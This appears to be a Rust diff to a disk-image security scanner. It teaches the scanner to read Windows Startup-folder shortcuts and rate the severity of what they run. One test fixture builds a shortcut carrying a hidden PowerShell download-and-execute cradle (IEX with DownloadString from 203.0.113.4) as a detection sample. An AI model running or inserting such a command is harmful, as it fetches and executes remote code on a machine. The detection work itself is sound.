@@ -6,7 +6,11 @@
 //!   a program, script or shortcut there runs at logon. `windows-startup-item`, medium: a
 //!   stock Windows Server image has none (only `desktop.ini`), so whatever a publisher left
 //!   runs in every instance; high when the script downloads code and runs it. Shortcuts
-//!   (`.lnk`) are reported without their target (the Shell Link format is not parsed).
+//!   (`.lnk`) are read (`lnk`: the Shell Link's target and arguments) and judged as the
+//!   command they run: `windows-startup-shortcut`, high when it downloads code and runs it or
+//!   runs encoded PowerShell, medium when its program is in a user-writable directory, info
+//!   otherwise (the inventory: what it runs is named). A `.lnk` that is not a readable Shell
+//!   Link stays a medium `windows-startup-item`, its error named.
 //! - **Scheduled tasks** (`Windows\System32\Tasks\**`, the XML Task Scheduler writes, UTF-16 or
 //!   UTF-8): a task whose principal logs on with a stored password (`<LogonType>Password`) —
 //!   Windows keeps that password as an LSA secret in the image, decryptable offline —
@@ -20,7 +24,7 @@
 //!
 //! Known miner names (`xmrig.exe`…) anywhere are the miner family's (`miner-trace`).
 
-use super::{CheckHit, CheckRule, clip, file_name, miner, windows_command};
+use super::{CheckHit, CheckRule, clip, file_name, lnk, miner, windows_command};
 use crate::detect::registry::pattern::{self, Glob, glob_nocase};
 use crate::report::Severity;
 
@@ -30,6 +34,15 @@ pub(crate) const STARTUP_RULE: CheckRule = CheckRule {
     title: "Program or script in a Windows Startup folder (runs at logon)",
     severity: Severity::Medium,
     remediation: "Remove the file from the Startup folder (`Remove-Item`) unless it is a vetted part of the image; configure what must run at logon through Group Policy or a scheduled task created at launch instead.",
+    suppresses: &[],
+};
+
+/// A shortcut in a Startup folder, judged by what it runs.
+pub(crate) const SHORTCUT_RULE: CheckRule = CheckRule {
+    id: "windows-startup-shortcut",
+    title: "Shortcut in a Windows Startup folder (its target runs at logon)",
+    severity: Severity::Info,
+    remediation: "Remove the shortcut from the Startup folder (`Remove-Item`) unless it is a vetted part of the image; a shortcut that fetches code or runs a program from a folder users can write is a persistence mechanism. Configure what must run at logon through Group Policy or a scheduled task created at launch instead.",
     suppresses: &[],
 };
 
@@ -63,6 +76,7 @@ pub(crate) const TEMP_EXE_RULE: CheckRule = CheckRule {
 /// Every rule of the family.
 pub(crate) const RULES: &[CheckRule] = &[
     STARTUP_RULE,
+    SHORTCUT_RULE,
     TASK_PASSWORD_RULE,
     TASK_COMMAND_RULE,
     TEMP_EXE_RULE,
@@ -140,6 +154,14 @@ fn startup(path: &str, data: &[u8]) -> Vec<CheckHit> {
     } else {
         "the all-users Startup folder".to_string()
     };
+    let note = if ext == "lnk" && !is_pe(data) {
+        match lnk::parse(data) {
+            Ok(link) => return shortcut(name, &whose, &link),
+            Err(e) => format!(" ({e})"),
+        }
+    } else {
+        String::new()
+    };
     let what = if is_pe(data) {
         "program".to_string()
     } else if ext == "lnk" {
@@ -157,10 +179,57 @@ fn startup(path: &str, data: &[u8]) -> Vec<CheckHit> {
         &STARTUP_RULE,
         severity,
         format!(
-            "{what} `{}` in {whose}, run at every logon{why}",
+            "{what} `{}` in {whose}, run at every logon{why}{note}",
             clip(name, 80)
         ),
         data,
+    )]
+}
+
+/// The finding for a readable shortcut `name` in `whose` Startup folder.
+fn shortcut(name: &str, whose: &str, link: &lnk::Shortcut) -> Vec<CheckHit> {
+    let target = link.target().unwrap_or("");
+    let args = link.arguments.as_deref().unwrap_or("");
+    let line = match (
+        target.contains(' ') && !target.starts_with('"'),
+        args.is_empty(),
+    ) {
+        (_, true) => target.to_string(),
+        (true, false) => format!("\"{target}\" {args}"),
+        (false, false) => format!("{target} {args}"),
+    };
+    let fp = format!("{name}\0{line}");
+    let name = clip(name, 80);
+    if line.trim().is_empty() {
+        return vec![CheckHit::file(
+            &SHORTCUT_RULE,
+            Severity::Medium,
+            format!(
+                "shortcut `{name}` in {whose}, run at every logon; its target is only in its shell item list (not read)"
+            ),
+            fp.as_bytes(),
+        )];
+    }
+    let j = windows_command::judge(&line);
+    let shown = windows_command::shown(&line);
+    let (rule, severity, why) = if let Some(m) = j.miner {
+        (&miner::RULE, miner::RULE.severity, format!(": a {m}"))
+    } else if let Some(why) = j.download {
+        (&SHORTCUT_RULE, Severity::High, format!(": {why}"))
+    } else if let Some(dir) = j.writable {
+        (
+            &SHORTCUT_RULE,
+            Severity::Medium,
+            format!(": its program is in {dir}, which users may write by default"),
+        )
+    } else {
+        (&SHORTCUT_RULE, SHORTCUT_RULE.severity, String::new())
+    };
+    vec![CheckHit::file(
+        rule,
+        severity,
+        format!("shortcut `{name}` in {whose} runs {shown} at every logon{why}"),
+        fp.as_bytes(),
     )]
 }
 
@@ -359,6 +428,75 @@ mod tests {
         assert!(
             h[0].evidence
                 .starts_with(".ps1 file `u.ps1` in the Startup folder of bob")
+        );
+    }
+
+    #[test]
+    fn startup_shortcuts_are_read_and_judged() {
+        use super::super::lnk::tests::build;
+        let d = "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp";
+        let h = check(
+            &format!("{d}/Sync.lnk"),
+            &build(
+                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+                "-nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a')\"",
+                None,
+            ),
+        );
+        assert_eq!(h.len(), 1);
+        assert_eq!(
+            (h[0].rule, h[0].severity),
+            ("windows-startup-shortcut", Severity::High)
+        );
+        assert!(
+            h[0].evidence.starts_with(
+                r"shortcut `Sync.lnk` in the all-users Startup folder runs C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden"
+            ),
+            "{}",
+            h[0].evidence
+        );
+        let u = "/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup";
+        let h = check(
+            &format!("{u}/helper.lnk"),
+            &build(r"C:\Users\bob\AppData\Local\Helper\helper.exe", "", None),
+        );
+        assert_eq!(
+            (h[0].rule, h[0].severity),
+            ("windows-startup-shortcut", Severity::Medium)
+        );
+        assert!(
+            h[0].evidence.contains("Startup folder of bob"),
+            "{}",
+            h[0].evidence
+        );
+        // A vetted program: the inventory, at info.
+        let h = check(
+            &format!("{d}/Notepad.lnk"),
+            &build(
+                r"C:\Windows\System32\notepad.exe",
+                "",
+                Some(r"%windir%\system32\notepad.exe"),
+            ),
+        );
+        assert_eq!(
+            (h[0].rule, h[0].severity),
+            ("windows-startup-shortcut", Severity::Info)
+        );
+        assert_eq!(
+            h[0].evidence,
+            r"shortcut `Notepad.lnk` in the all-users Startup folder runs C:\Windows\System32\notepad.exe at every logon"
+        );
+        // Not a Shell Link: still a Startup item, its error named.
+        let h = check(&format!("{d}/x.lnk"), b"not a link");
+        assert_eq!(
+            (h[0].rule, h[0].severity),
+            ("windows-startup-item", Severity::Medium)
+        );
+        assert!(
+            h[0].evidence
+                .ends_with("(not a Shell Link (no 0x4C header with the ShellLink class id))"),
+            "{}",
+            h[0].evidence
         );
     }
 
